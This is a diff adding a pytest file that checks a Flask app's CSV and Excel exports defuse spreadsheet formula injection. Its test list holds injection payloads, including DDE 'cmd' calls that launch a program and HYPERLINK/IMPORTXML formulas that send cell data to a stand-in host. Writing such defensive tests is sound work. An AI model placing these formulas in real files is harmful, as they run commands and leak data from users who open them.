@@ -1,0 +1,125 @@
+import csv
+import io
+import xml.etree.ElementTree as ET
+import zipfile
+from collections.abc import Iterator
+from datetime import date
+
+import pytest
+from flask import Flask
+from hypothesis import given
+from hypothesis import strategies as st
+
+from app.web.sheets import Row, csv_lines, guarded, send_csv, send_sheet, write_sheet
+
+HEADS = ("Record", "Since", "Share")
+# what spreadsheet programs have run, or opened, when a cell began like this
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"press")',
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    " \u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200e=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "|calc",
+    "%0A=1",
+    "-2+3+cmd|' /C calc'!D2",
+    '=IMPORTXML(CONCAT("http://192.0.2.1/", A1), "//a")',
+]
+PLAIN = ["Border guard 4", "Größe", "ورشة العمل", "a=b", "5 of 12", "a,b", 'say "so"', "two\nlines", ""]
+SPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+def read_csv(text: str) -> list[list[str]]:
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
+
+
+def read_sheet(content: bytes) -> tuple[list[list[tuple[str, str]]], ET.Element]:
+    """Return the cells of a sheet with their type, and the sheet."""
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
+    rows = [
+        [("".join(cell.itertext()), cell.get("t", "n")) for cell in row.iterfind("x:c", SPACE)]
+        for row in sheet.iterfind(".//x:row", SPACE)
+    ]
+    return rows, sheet
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_nothing_in_a_csv_is_a_formula(formula: str) -> None:
+    [_, row] = read_csv("".join(csv_lines(HEADS, [(formula, 1, "x")])))
+    assert row == [f"'{formula}", "1", "x"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_nothing_in_a_sheet_is_a_formula(formula: str) -> None:
+    file = io.BytesIO()
+    write_sheet(file, HEADS, [(formula, 1, "x")])
+    content = file.getvalue()
+    rows, sheet = read_sheet(content)
+    assert [kind for _, kind in rows[1]] == ["inlineStr", "n", "inlineStr"]
+    assert sheet.find(".//x:f", SPACE) is None
+    assert b"hyperlink" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_plain_texts_stay_as_they_are(text: str) -> None:
+    [_, row] = read_csv("".join(csv_lines(HEADS, [(text, date(2027, 3, 1), 12.5)])))
+    assert row == [text, "2027-03-01", "12.5"]
+
+
+@given(st.text())
+def test_no_text_begins_like_a_formula(text: str) -> None:
+    assert not str(guarded(text)).lstrip().startswith(("=", "+", "-", "@"))
+
+
+def test_numbers_stay_numbers() -> None:
+    assert [guarded(-5), guarded(2.5), guarded(None)] == [-5, 2.5, ""]
+
+
+def test_a_csv_is_sent_while_it_is_read(lite_app: Flask) -> None:
+    seen: list[int] = []
+
+    def rows() -> Iterator[Row]:
+        for n in range(5000):
+            seen.append(n)
+            yield (f"record {n}", date(2027, 1, 1), n)
+
+    with lite_app.test_request_context():
+        answer = send_csv("rows", HEADS, rows())
+        assert seen == []
+        portions = iter(answer.iter_encoded())
+        first = next(portions)
+        assert first.startswith(b"\xef\xbb\xbfRecord,Since,Share\r\n")
+        assert len(seen) < 1000
+        text = (first + b"".join(portions)).decode()
+    assert len(read_csv(text)) == 5001
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="rows.csv"'
+
+
+@pytest.mark.parametrize("right_to_left", [False, True])
+def test_a_sheet_says_the_same_and_its_direction(lite_app: Flask, right_to_left: bool) -> None:
+    with lite_app.test_request_context():
+        answer = send_sheet("rows", HEADS, [("سجل", date(2027, 1, 1), 12.5)], right_to_left=right_to_left)
+        answer.direct_passthrough = False
+        content = b"".join(answer.iter_encoded())
+        answer.close()
+    rows, sheet = read_sheet(content)
+    assert [value for value, _ in rows[0]] == list(HEADS)
+    assert rows[1] == [("سجل", "inlineStr"), ("2027-01-01", "inlineStr"), ("12.5", "n")]
+    view = sheet.find(".//x:sheetView", SPACE)
+    assert view is not None
+    assert (view.get("rightToLeft") == "1") == right_to_left
+    assert "rows.xlsx" in answer.headers["Content-Disposition"]
